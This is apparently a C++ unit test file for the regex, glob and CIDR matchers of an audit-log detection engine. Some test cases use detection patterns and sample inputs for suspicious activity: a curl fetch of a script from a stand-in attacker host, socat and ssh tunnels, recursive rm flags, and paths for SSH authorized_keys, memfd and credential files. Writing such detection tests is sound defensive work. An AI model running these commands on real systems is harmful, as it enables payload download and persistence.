// The regex engine, wildcard patterns and CIDR parsing on their own.
#include <boost/test/unit_test.hpp>
#include <chrono>
#include <cstring>
#include <memory>
#include <string>

#include "eql/cidr.h"
#include "eql/regex.h"
#include "eql/text.h"
#include "eql/wildcard.h"

using namespace auditeql::eql;

namespace {

struct RegexCase {
  const char* pattern;
  const char* input;
  bool case_insensitive;
  bool expected;
};

bool regex_matches(const char* pattern, std::string_view input, bool ci = false) {
  return Regex::compile(pattern, ci).matches(input);
}

}  // namespace

BOOST_AUTO_TEST_SUITE(eql_regex)

BOOST_AUTO_TEST_CASE(syntax_and_anchoring) {
  const RegexCase cases[] = {
      {"abc", "abc", false, true},
      {"abc", "abcd", false, false},  // whole value only
      {"abc", "xabc", false, false},
      {"", "", false, true},
      {"", "a", false, false},
      {"a.c", "abc", false, true},
      {"a.c",
       "a\xC3\xA9"
       "c",
       false, true},  // . is one code point
      {"a..c",
       "a\xC3\xA9"
       "c",
       false, false},
      {"a*", "", false, true},
      {"a*", "aaaa", false, true},
      {"a+", "", false, false},
      {"ab?c", "ac", false, true},
      {"ab?c", "abbc", false, false},
      {"a{3}", "aaa", false, true},
      {"a{3}", "aa", false, false},
      {"a{2,}", "aaaaa", false, true},
      {"a{2,}", "a", false, false},
      {"a{1,3}", "aaa", false, true},
      {"a{1,3}", "aaaa", false, false},
      {"a{0,2}b", "b", false, true},
      {"(ab)+", "ababab", false, true},
      {"(ab)+", "ababa", false, false},
      {"cat|dog", "dog", false, true},
      {"cat|dog", "cow", false, false},
      {"(a|b)(c|d)", "bd", false, true},
      {"x(|y)z", "xz", false, true},
      {"()", "", false, true},
      {"[abc]+", "cab", false, true},
      {"[a-z0-9_]+", "ab_9", false, true},
      {"[a-z]", "A", false, false},
      {"[^-]*", "abc", false, true},
      {"[^-]*", "a-c", false, false},
      {"[]a]+", "]a]", false, true},
      {"[a-]+", "a-a", false, true},
      {"[\\]]", "]", false, true},
      {"[\\d.]+", "1.2", false, true},
      {"\\d+", "2024", false, true},
      {"\\d", "x", false, false},
      {"\\w+", "abc_9", false, true},
      {"\\w", "-", false, false},
      {"\\s", "\t", false, true},
      {"\\S+", "a b", false, false},
      {"\\D\\W", "a-", false, true},
      {"\\.", ".", false, true},
      {"\\.", "x", false, false},
      {"a\\*b", "a*b", false, true},
      {"\\n", "n", false, true},    // Lucene: an escaped letter is the letter
      {"^a$", "^a$", false, true},  // no anchors in Lucene syntax
      {"^a$", "a", false, false},
      {"\"a.b\"", "a.b", false, true},  // quoted literal
      {"\"a.b\"", "axb", false, false},
      {"@", "anything at all", false, true},
      {"a@", "a", false, true},
      {"#|x", "x", false, true},
      {"#", "", false, false},
      {"abc", "ABC", true, true},
      {"[a-c]+", "AbC", true, true},
      {"[^a]", "A", true, false},  // negation applies after case folding
      {"\\w+", "ABC", true, true},
      {"ABC", "abc", false, false},
      {"-[^-]*[uz][^-]*", "-fuv", false, true},
      {"-[^-]*[uz][^-]*", "-fv", false, false},
      {"-[A-NP-Za-np-z][A-Za-z]*[RLDwW][A-Za-z]*", "-rfR", false, true},
      {"php?[0-9]?\\.?[0-9]{0,2}", "php8.1", true, true},
      {"php?[0-9]?\\.?[0-9]{0,2}", "ph", true, true},
      {"php?[0-9]?\\.?[0-9]{0,2}", "python3", true, false},
      {"/var/run/\\w+\\.(pid|lock|reboot)", "/var/run/sshd.pid", false, true},
      {"\\.[a-z0-9_\\-][a-z0-9_\\-\\.]{1,254}", ".hidden", false, true},
      {"\\.[a-z0-9_\\-][a-z0-9_\\-\\.]{1,254}", ".h", false, false},
      {".*[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}:[0-9]{1,5}:[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,"
       "3}:[0-9]{1,5}.*",
       "socat tcp:10.0.0.1:80:10.0.0.2:8080 x", false, true},
      {".*[A-Za-z0-9][A-Za-z0-9\\-]*(\\.[A-Za-z0-9][A-Za-z0-9\\-]*)+(:[0-9]{1,5})?\\/[^ ]+.*",
       "curl http://evil.example.com:8080/x.sh", false, true},
      {".*[A-Za-z0-9][A-Za-z0-9\\-]*(\\.[A-Za-z0-9][A-Za-z0-9\\-]*)+(:[0-9]{1,5})?\\/[^ ]+.*", "ls -la", false, false},
      {"/[a-z0-9\\s_\\-\\\\./]+\\s", "/tmp/x ", false, true},
  };
  for (const RegexCase& c : cases) {
    BOOST_TEST_CONTEXT("pattern " << c.pattern << " on '" << c.input << "'") {
      BOOST_TEST(regex_matches(c.pattern, c.input, c.case_insensitive) == c.expected);
    }
  }
}

BOOST_AUTO_TEST_CASE(invalid_patterns_are_rejected) {
  const char* bad[] = {
      "a(b",
      "a)b",
      "(",
      "[abc",
      "[z-a]",
      "a{2",
      "a{3,1}",
      "a{x}",
      "*a",
      "+",
      "a|*",
      "\\",
      "a{1001}",
      "a{0,1001}",
      "(a{1000}){1000}",
      "a&b",
      "~a",
      "<1-5>",
      "\"unterminated",
  };
  for (const char* pattern : bad) {
    BOOST_TEST_CONTEXT("pattern " << pattern) {
      BOOST_CHECK_THROW(Regex::compile(pattern, false), RegexError);
    }
  }
  try {
    Regex::compile("ab(cd", false);
    BOOST_FAIL("expected RegexError");
  } catch (const RegexError& e) {
    BOOST_TEST(e.char_index == 2u);
  }
  const std::string deep = std::string(5000, '(') + "a" + std::string(5000, ')');
  BOOST_CHECK_THROW(Regex::compile(deep, false), RegexError);
  BOOST_CHECK_NO_THROW(Regex::compile(std::string(100, '(') + "a" + std::string(100, ')'), false));
  BOOST_CHECK_NO_THROW(Regex::compile("a{1000}", false));
}

BOOST_AUTO_TEST_CASE(the_required_byte_prefilter_never_rejects_a_match) {
  // Each pattern with inputs that match: characters on only some paths
  // (alternation, optional parts, classes) must not be treated as required.
  struct Case {
    const char* pattern;
    bool ci;
    std::vector<const char*> matching;
    std::vector<const char*> not_matching;
  };
  const Case cases[] = {
      {"(a|b)c", false, {"ac", "bc"}, {"ab", "c"}},
      {"x?y+", false, {"y", "xyy"}, {"x"}},
      {"[ab]z", false, {"az", "bz"}, {"a"}},
      {".*[0-9]{1,3}\\.[0-9]{1,3}:[0-9]+.*", false, {"ssh -L 10.0:22 host", "1.2:3"}, {"1.2 3", "no digits"}},
      {"Ab(C|D)", true, {"abc", "ABD", "aBc"}, {"ab", "abe"}},
      {"(a*)*b", false, {"b", "aaab"}, {"aaa"}},
      {"\\.[a-z]+", true, {".BASHRC", ".x"}, {"x"}},
      {"@", false, {"", "anything"}, {}},
  };
  for (const auto& c : cases) {
    for (const char* text : c.matching) BOOST_TEST(regex_matches(c.pattern, text, c.ci), c.pattern << " on " << text);
    for (const char* text : c.not_matching) BOOST_TEST(!regex_matches(c.pattern, text, c.ci), c.pattern << " on " << text);
  }
}

BOOST_AUTO_TEST_CASE(the_prefilter_wants_required_classes_in_order) {
  // Required bytes must appear in the pattern's order: "ba" has an a and a
  // b but cannot match a.*b. Checked against the NFA alone, so the test
  // fails if the prefilter rejects too much or the NFA is skipped wrongly.
  const Regex ordered = Regex::compile("a.*b", false);
  BOOST_TEST(!ordered.matches("ba"));
  BOOST_TEST(ordered.matches("a-b"));
  const Regex tunnel = Regex::compile(".*[0-9]{1,3}\\.[0-9]{1,3}:[0-9]{1,5}.*", false);
  for (const char* text : {"ssh -L 10.1:22", "x 1.2:3 y", "1.2 3:4", ":1.2", "10.0.0.1 : 22", ""}) {
    BOOST_TEST(tunnel.matches(text) == tunnel.nfa_matches(text), text);
  }
  BOOST_TEST(tunnel.matches("ssh -L 10.1:22"));
  BOOST_TEST(!tunnel.matches("1.2 3:4"));
  const Regex spaced = Regex::compile("/[a-z0-9\\s_\\-\\\\./]+\\s", true);
  BOOST_TEST(spaced.matches("/usr/bin/X "));
  BOOST_TEST(!spaced.matches("/usr/bin/x"));
}

BOOST_AUTO_TEST_CASE(the_prefilter_never_changes_a_verdict_on_random_patterns) {
  // Random patterns over a few atoms and operators, random inputs over a few
  // bytes (ASCII, a two-byte character, a stray byte): the prefiltered
  // match must equal the plain NFA's answer every time.
  const char* atoms[] = {"a", "b", ".", ":", "[0-9]", "[ab]", "[^a]", "\\s", "\\d", "(a|b)", "(a|:)", "1", "\"ab\"", "@"};
  const char* suffixes[] = {"", "", "", "*", "+", "?", "{1,2}", "{2}"};
  const char alphabet[] = {'a', 'b', 'A', '.', ':', '1', ' ', '\xc3', '\xa9', '\xff'};
  uint32_t seed = 12345;
  auto next = [&](uint32_t bound) {
    seed = seed * 1103515245u + 12345u;
    return (seed >> 8) % bound;
  };
  size_t matched = 0, checked = 0;
  for (int p = 0; p < 400; ++p) {
    std::string pattern;
    const uint32_t length = 1 + next(5);
    for (uint32_t k = 0; k < length; ++k) {
      pattern += atoms[next(std::size(atoms))];
      pattern += suffixes[next(std::size(suffixes))];
    }
    const bool ci = next(2) == 1;
    const Regex regex = Regex::compile(pattern, ci);
    for (int t = 0; t < 60; ++t) {
      std::string text;
      const uint32_t n = next(7);
      for (uint32_t k = 0; k < n; ++k) text += alphabet[next(std::size(alphabet))];
      const bool expected = regex.nfa_matches(text);
      BOOST_TEST_REQUIRE(regex.matches(text) == expected, pattern << (ci ? " (ci)" : "") << " on '" << text << "'");
      matched += expected;
      ++checked;
    }
  }
  BOOST_TEST_MESSAGE(checked << " random checks, " << matched << " matches");
  BOOST_TEST(matched > 500u);  // the inputs do reach the NFA's accepting side
}

BOOST_AUTO_TEST_CASE(an_overlong_encoding_is_not_an_ascii_character) {
  // E0 81 81 would decode to 'A' and E0 80 B1 to '1', but they are overlong:
  // stray bytes, as the byte-level prefilter (which looks for the ASCII
  // bytes themselves) assumes. Prefilter and NFA must give the same answer.
  const Regex letter = Regex::compile("A", false);
  const std::string overlong_a = "\xE0\x81\x81";
  BOOST_TEST(letter.matches(overlong_a) == letter.nfa_matches(overlong_a));
  BOOST_TEST(!letter.nfa_matches(overlong_a));
  const Regex digit = Regex::compile(".*[0-9]:.*", false);
  const std::string overlong_1 = "x\xE0\x80\xB1:";
  BOOST_TEST(digit.matches(overlong_1) == digit.nfa_matches(overlong_1));
  BOOST_TEST(!digit.nfa_matches(overlong_1));
  BOOST_TEST(digit.matches("x1:"));
  // Three stray bytes are three characters; F0 80.. (overlong four-byte) too.
  BOOST_TEST(Regex::compile("...", false).matches(overlong_a));
  BOOST_TEST(Regex::compile("....", false).matches("\xF0\x80\x81\x81"));
  // Valid multi-byte characters still decode as one.
  for (const char* one : {"\xC3\xA9", "\xE0\xA4\x85", "\xE2\x82\xAC", "\xF0\x90\x80\x80", "\xF0\x9F\x98\x80"}) {
    BOOST_TEST(Regex::compile(".", false).matches(one), "one character: " << one);
    BOOST_TEST(!Regex::compile("..", false).matches(one), "not two: " << one);
    BOOST_TEST(Regex::compile(std::string(one) + "+", false).matches(std::string(one) + one));
  }
}

BOOST_AUTO_TEST_CASE(a_value_is_never_read_past_its_last_byte) {
  // Each value in a buffer of exactly its size (no terminating NUL after
  // it, unlike a std::string), so that the sanitizer build sees any read
  // past the end: ASCII, a lone lead byte, truncated sequences.
  const Regex any = Regex::compile(".*", false);
  const Regex letter = Regex::compile("A", false);
  for (const std::string& value : {std::string("a"), std::string("\xE0"), std::string("\xF0\x90"),
                                   std::string("ab\xF4"), std::string("\xC3")}) {
    const auto exact = std::make_unique<char[]>(value.size());
    std::memcpy(exact.get(), value.data(), value.size());
    const std::string_view view(exact.get(), value.size());
    size_t bytes = 0;
    for (size_t i = 0; i < view.size(); i += text::sequence_length(view, i)) ++bytes;
    BOOST_TEST(bytes == value.size());  // all ASCII or stray: one byte each
    BOOST_TEST(any.matches(view));
    BOOST_TEST(!letter.matches(view));
    BOOST_TEST(any.nfa_matches(view));
  }
}

BOOST_AUTO_TEST_CASE(pathological_patterns_run_in_linear_time) {
  const std::string as(10000, 'a');
  const auto start = std::chrono::steady_clock::now();
  BOOST_TEST(regex_matches("(a*)*b", as) == false);
  BOOST_TEST(regex_matches("(a|a)*b", as) == false);
  BOOST_TEST(regex_matches("(a|aa)*c", as) == false);
  BOOST_TEST(regex_matches("(a+)+", as) == true);
  BOOST_TEST(regex_matches("(.*)*(.*)*x", as) == false);
  BOOST_TEST(regex_matches("(a?){30}a{30}", std::string(30, 'a')) == true);  // classic backtracking killer
  const auto elapsed = std::chrono::steady_clock::now() - start;
  BOOST_TEST(std::chrono::duration_cast<std::chrono::milliseconds>(elapsed).count() < 1000);
}

BOOST_AUTO_TEST_SUITE_END()

BOOST_AUTO_TEST_SUITE(eql_wildcard)

struct GlobCase {
  const char* pattern;
  const char* value;
  bool fold;
  bool expected;
};

BOOST_AUTO_TEST_CASE(glob_matching) {
  const GlobCase cases[] = {
      {"", "", false, true},
      {"", "a", false, false},
      {"*", "", false, true},
      {"**", "abc", false, true},
      {"abc", "abc", false, true},
      {"abc", "ABC", false, false},
      {"abc", "ABC", true, true},
      {"a*", "a", false, true},
      {"*a", "a", false, true},
      {"a*a", "a", false, false},  // prefix and suffix may not overlap
      {"a*a", "aa", false, true},
      {"a*b*c", "abc", false, true},
      {"a*b*c", "acb", false, false},
      {"*a*b*", "xxaxxbxx", false, true},
      {"*a*b*", "xxbxxaxx", false, false},
      {"*ab*ab*", "abab", false, true},
      {"*ab*ab*", "aba", false, false},
      {"?", "", false, false},
      {"?", "\xC3\xA9", false, true},
      {"??", "\xC3\xA9", false, false},
      {"*?", "\xE2\x82\xAC", false, true},
      {"?*?", "\xE2\x82\xAC", false, false},
      {"h?llo*", "h\xC3\xA9llo world", false, true},
      {"*l?o", "h\xC3\xA9llo", false, true},
      {"*\xC3\xA9*", "caf\xC3\xA9s", false, true},
      {"c:\\windows\\*", "C:\\Windows\\System32", true, true},
      {"a\\*", "a\\bc", false, true},  // backslash is an ordinary character
      {"a\\*", "a*", false, false},
      {"/proc/*/fd/*", "/proc/123/fd/4", false, true},
      {"/proc/*/fd/*", "/proc/123/fdx/4", false, false},
      {"*/.ssh/authorized_keys*", "/root/.ssh/authorized_keys2", false, true},
      {"*?memfd:*", "/memfd:x (deleted)", false, true},
      {"?memfd:*", "memfd:x", false, false},
      // a middle segment with `?`: its literal head found by search, then the rest tried
      {"*/creds/?*", "x/creds/", false, false},
      {"*/creds/?*", "x/creds//creds/k", false, true},
      {"*/creds/?x*", "/creds/ay/creds/bx", false, true},
      {"*/CREDS/?x*", "/creds/ay/Creds/bx", true, true},
      {"*/creds/?x", "/creds/bx/creds/by", false, false},
      {"*a?c*", "abababc", false, true},
      {"*b?\xC3\xA9*", "ab\xC3\xA9\xC3\xA9", false, true},
  };
  for (const GlobCase& c : cases) {
    BOOST_TEST_CONTEXT("pattern '" << c.pattern << "' on '" << c.value << "'") {
      BOOST_TEST(WildcardPattern(c.pattern, c.fold).matches(c.value) == c.expected);
    }
  }
  BOOST_TEST(WildcardPattern("abc", false).is_literal());
  BOOST_TEST(!WildcardPattern("a?c", false).is_literal());
}

BOOST_AUTO_TEST_SUITE_END()

BOOST_AUTO_TEST_SUITE(eql_cidr)

BOOST_AUTO_TEST_CASE(addresses_and_blocks) {
  BOOST_TEST(parse_ip("10.0.0.1").has_value());
  BOOST_TEST(parse_ip("::1").has_value());
  BOOST_TEST(parse_ip("fe80::1%eth0").has_value());
  BOOST_TEST(!parse_ip("10.0.0").has_value());
  BOOST_TEST(!parse_ip("10.0.0.256").has_value());
  BOOST_TEST(!parse_ip("").has_value());
  BOOST_TEST(!parse_ip("banana").has_value());
  BOOST_TEST(!parse_cidr("10.0.0.0/33").has_value());
  BOOST_TEST(!parse_cidr("::/129").has_value());
  BOOST_TEST(!parse_cidr("10.0.0.0/").has_value());
  BOOST_TEST(!parse_cidr("10.0.0.0/8x").has_value());

  const auto block = parse_cidr("172.16.0.0/12");
  BOOST_REQUIRE(block.has_value());
  BOOST_TEST(block->contains(*parse_ip("172.31.255.255")));
  BOOST_TEST(!block->contains(*parse_ip("172.32.0.0")));
  BOOST_TEST(parse_cidr("10.1.2.3/8")->contains(*parse_ip("10.200.0.1")));  // host bits ignored
  BOOST_TEST(parse_cidr("0.0.0.0/0")->contains(*parse_ip("8.8.8.8")));
  BOOST_TEST(!parse_cidr("0.0.0.0/0")->contains(*parse_ip("2001:db8::1")));
  BOOST_TEST(parse_cidr("::/0")->contains(*parse_ip("8.8.8.8")));  // IPv4 lives inside ::ffff:0:0/96
  BOOST_TEST(parse_cidr("fe80::/10")->contains(*parse_ip("febf::1")));
  BOOST_TEST(!parse_cidr("fe80::/10")->contains(*parse_ip("fec0::1")));
  BOOST_TEST(parse_cidr("::1")->contains(*parse_ip("::1")));
  BOOST_TEST(!parse_cidr("::1")->contains(*parse_ip("::2")));
  BOOST_TEST(parse_cidr("192.0.0.8/32")->contains(*parse_ip("192.0.0.8")));
}

BOOST_AUTO_TEST_SUITE_END()
